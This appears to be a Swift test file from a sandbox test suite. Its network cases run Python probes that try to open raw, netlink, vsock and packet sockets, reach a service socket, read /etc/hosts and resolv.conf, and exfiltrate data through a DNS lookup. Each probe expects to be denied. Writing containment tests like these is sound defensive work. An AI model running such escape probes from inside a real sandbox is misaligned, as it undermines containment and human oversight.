import Sandbox
import SandboxProbe

extension HostileCase {
    /// Ways out to other machines and other processes.
    static let network: [HostileCase] = [
        HostileCase(
            .network,
            "connects to the host over IPv4",
            .python(
                #"""
                import socket
                return {
                    "stream": attempt(socket.create_connection, ("127.0.0.1", @PORT@), 2),
                    "datagram": attempt(socket.socket, socket.AF_INET, socket.SOCK_DGRAM),
                    "raw": attempt(socket.socket, socket.AF_INET, socket.SOCK_RAW),
                }
                """#,
                answers: ["stream": "EPERM", "datagram": "EPERM", "raw": "EPERM"],
                records: ["socket"]
            )
        ),
        socket("connects over IPv6", "AF_INET6, SOCK_STREAM"),
        socket("talks to the kernel over netlink", "AF_NETLINK, SOCK_RAW"),
        socket("talks to the hypervisor over vsock", "AF_VSOCK, SOCK_STREAM"),
        socket("reads packets off the wire", "AF_PACKET, SOCK_RAW"),
        socket("uses the kernel's ciphers", "AF_ALG, SOCK_SEQPACKET"),
        HostileCase(
            .network,
            "connects to a real socket of the service",
            .python(
                #"""
                import socket
                return {
                    "stream": attempt(socket.socket, socket.AF_UNIX, socket.SOCK_STREAM),
                    "exists": attempt(os.stat, "@SOCKET@"),
                }
                """#,
                workspace: .readOnly,
                answers: ["stream": "EPERM", "exists": absent],
                records: ["socket"]
            )
        ),
        HostileCase(
            .network,
            "makes a pair of sockets into something more",
            .python(
                #"""
                import socket
                pair = socket.socketpair()[0]
                return {
                    "connect": attempt(pair.connect, "@SOCKET@"), "abstract": attempt(pair.connect, "\0agentctl"),
                    "bind": attempt(pair.bind, "/tmp/listening"), "listen": attempt(pair.listen),
                    "datagram": attempt(socket.socketpair, socket.AF_UNIX, socket.SOCK_DGRAM),
                    "inet": attempt(socket.socketpair, socket.AF_INET, socket.SOCK_STREAM),
                }
                """#,
                answers: [
                    "connect": "EPERM", "abstract": "EPERM", "bind": "EPERM", "listen": "EPERM", "datagram": "EPERM",
                    "inet": "EPERM",
                ],
                records: ["connect"]
            )
        ),
        HostileCase(
            .network,
            "asks for a name",
            .python(
                #"""
                import socket
                return {
                    "name": attempt(socket.getaddrinfo, "example.com", 80),
                    "exfiltrate": attempt(socket.gethostbyname, "secret.example.com"),
                    "resolver": attempt(read, "/etc/resolv.conf"), "hosts": attempt(read, "/etc/hosts"),
                }
                """#,
                answers: ["name": "gaierror", "exfiltrate": "gaierror", "resolver": absent, "hosts": absent]
            )
        ),
        HostileCase(
            .network,
            "fetches a page",
            .python(
                #"""
                import asyncio, urllib.request
                async def connect():
                    await asyncio.open_connection("127.0.0.1", @PORT@)
                return {
                    "page": attempt(urllib.request.urlopen, "http://127.0.0.1:@PORT@/", None, 2),
                    "asyncio": attempt(asyncio.run, connect()),
                }
                """#,
                answers: ["page": "URLError", "asyncio": "EPERM|RuntimeError"]
            )
        ),
        HostileCase(
            .network,
            "looks for descriptors that it was left",
            .python(
                #"""
                import stat
                found = []
                for number in range(3, 4096):
                    try:
                        mode = os.fstat(number).st_mode
                    except OSError:
                        continue
                    found.append("socket" if stat.S_ISSOCK(mode) else "other")
                return {"sockets": found.count("socket") <= 3, "others": found.count("other") <= 4}
                """#,
                answers: ["sockets": "true", "others": "true"]
            )
        ),
    ]

    private static func socket(_ name: String, _ kind: String) -> HostileCase {
        let parts = kind.split(separator: ", ")
        return HostileCase(
            .network,
            name,
            .python(
                #"""
                import socket
                return {"socket": attempt(socket.socket, socket.\#(parts[0]), socket.\#(parts[1]))}
                """#,
                answers: ["socket": "EPERM"],
                records: ["socket"]
            )
        )
    }
}
